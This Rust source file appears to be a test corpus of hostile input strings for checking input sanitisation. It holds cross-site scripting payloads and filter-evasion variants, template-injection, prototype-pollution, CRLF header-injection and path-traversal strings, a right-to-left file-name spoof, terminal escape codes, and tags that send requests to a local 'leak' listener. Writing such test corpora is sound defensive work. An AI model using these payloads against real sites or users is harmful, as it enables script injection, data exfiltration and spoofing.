//! Strings that mean harm: to a page, to a terminal, and to whoever reads them.

/// What each of them wants done: `pwned()` in a page, a call to a listener of ours at this port, or something to the screen.
pub fn strings(port: u16) -> Vec<String> {
    let call = format!("http://127.0.0.1:{port}/leak");
    let tags = [
        "img src=x onerror",
        "svg onload",
        "body onload",
        "iframe onload",
        "video src=x onerror",
        "details open ontoggle",
        "input autofocus onfocus",
        "marquee onstart",
        "audio src=x onerror",
        "object data=x onerror",
    ];
    let mut all: Vec<String> = tags
        .iter()
        .flat_map(|tag| [format!("<{tag}=pwned()>"), format!("\"><{tag}=pwned()>"), format!("'/><{tag}=pwned()//")])
        .collect();
    all.extend([
        "<script>pwned()</script>".to_owned(),
        "</title><script>pwned()</script>".into(),
        "</textarea><script>pwned()</script>".into(),
        "</script><script>pwned()</script>".into(),
        "<script src=data:text/javascript,pwned()></script>".into(),
        "<scr<script>ipt>pwned()</scr</script>ipt>".into(),
        "&lt;script&gt;pwned()&lt;/script&gt;".into(),
        "\u{3c}\u{0}script>pwned()</script>".into(),
        "javascript:pwned()".into(),
        "data:text/html,<script>pwned()</script>".into(),
        "{{constructor.constructor('pwned()')()}}".into(),
        "${pwned()}".into(),
        "#{pwned()}".into(),
        "`+pwned()+`".into(),
        "');pwned();('".into(),
        "\");pwned();(\"".into(),
        "\\u003cscript\\u003epwned()\\u003c/script\\u003e".into(),
        "__proto__".into(),
        "constructor".into(),
        "{count}{n}{destination}".into(),
        "\u{202e}gpj.exe\u{202c}".into(),
        "\u{1b}[31mred\u{1b}[0m\u{7}".into(),
        "line\r\nset-cookie: a=b".into(),
        "../../../../etc/passwd".into(),
        "a\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}".repeat(20),
        "#/system?x=<b>y</b>".into(),
        format!("<img src={call}>"),
        format!("<link rel=stylesheet href={call}>"),
        format!("<style>@import '{call}'; body {{ background: url({call}) }}</style>"),
        format!("<form action={call}><button autofocus>x</button></form>"),
        format!("<meta http-equiv=refresh content='0;url={call}'>"),
        format!("<base href={call}>"),
    ]);
    all
}
